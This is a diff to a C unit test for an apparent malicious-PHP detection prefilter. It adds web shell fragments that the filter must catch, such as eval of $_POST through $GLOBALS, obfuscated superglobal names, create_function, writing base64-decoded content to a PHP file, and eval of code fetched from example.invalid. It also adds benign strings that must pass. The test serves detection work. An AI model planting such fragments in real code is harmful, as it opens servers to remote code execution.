@@ -197,7 +197,26 @@ static void test_prefilter_and_stats(void) {
   CHECK(!lang_prefilter((const unsigned char *)lib, strlen(lib), 1));
   CHECK(lang_prefilter((const unsigned char *)"<?php $_GET;", 12, 1));
   CHECK(lang_prefilter((const unsigned char *)"<?php EVAL(STR_ROT13('x'));", 27, 1));
-  CHECK(!lang_prefilter((const unsigned char *)"<?php eval('x');", 16, 1));
+  /* eval of a literal: read in a small file (it may be assembled code), not in a big one without a blob */
+  CHECK(lang_prefilter((const unsigned char *)"<?php eval('x');", 16, 1));
+  char big[9000];
+  memset(big, ' ', sizeof big);
+  memcpy(big, "<?php eval('x');", 16);
+  CHECK(!lang_prefilter((const unsigned char *)big, sizeof big, 1));
+  /* hidden request sources and sinks that name no superglobal */
+  static const char *const hidden[] = {
+      "<?php $k(${'_PO'.'ST'}['a']);", "<?php $x = ${$n};", "<?php eval($GLOBALS['_POST']['a']);",
+      "<?php $r = $_SERVER; echo $r['HTTP_X'];", "<?php echo $_SERVER['QUERY_STRING'];",
+      "<?php $u = $a('', $q); $u();", "<?php $f = create_function('', $b);",
+      "<?php fputs(fopen('a.php', 'w'), base64_decode('PD9waHAg'));",
+      "<?php eval(file_get_contents('http://example.invalid/x'));"};
+  for (size_t i = 0; i < sizeof hidden / sizeof hidden[0]; i++)
+    CHECK(lang_prefilter((const unsigned char *)hidden[i], strlen(hidden[i]), 1));
+  /* what library code has plenty of and no shell needs alone */
+  static const char *const quiet[] = {"<?php echo $_SERVER['SCRIPT_NAME'];", "<?php $this->x = $GLOBALS['config'];",
+                                      "<?php $s = \"${a}\";"};
+  for (size_t i = 0; i < sizeof quiet / sizeof quiet[0]; i++)
+    CHECK(!lang_prefilter((const unsigned char *)quiet[i], strlen(quiet[i]), 1));
   CHECK(lang_prefilter((const unsigned char *)"<% x = REQUEST(1) %>", 20, 0));
   char blob[200];
   for (int i = 0; i < 199; i++) blob[i] = "Ab3+/9Zq"[i % 8];
